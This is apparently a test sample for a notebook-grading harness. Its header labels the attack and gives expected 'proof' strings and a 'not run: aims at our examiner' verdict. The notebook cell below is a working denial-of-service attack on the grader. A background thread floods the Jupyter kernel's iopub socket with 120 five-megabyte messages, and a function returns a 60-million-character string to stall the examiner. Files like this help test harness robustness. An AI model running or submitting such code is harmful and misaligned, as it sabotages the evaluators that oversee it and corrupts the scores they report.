# ---
# about: fills the queues of the grader with large messages while it waits for a check, not for the kernel
# problem: ".*"
# proof: ATTACK RAN|the kernel ended|MemoryError
# stock: "not run: aims at our examiner"
# ---

# %% label
import threading
import time

app = get_ipython().kernel

def flood():
    time.sleep(0.3)
    context = app.session
    for _ in range(120):
        app.iopub_thread.socket.send_multipart([bytes(5 * 2**20)], copy=True)

threading.Thread(target=flood, daemon=True).start()

def label_of(score):
    return "x" * 60_000_000  # which takes the examiner a while

print("ATTACK RAN")
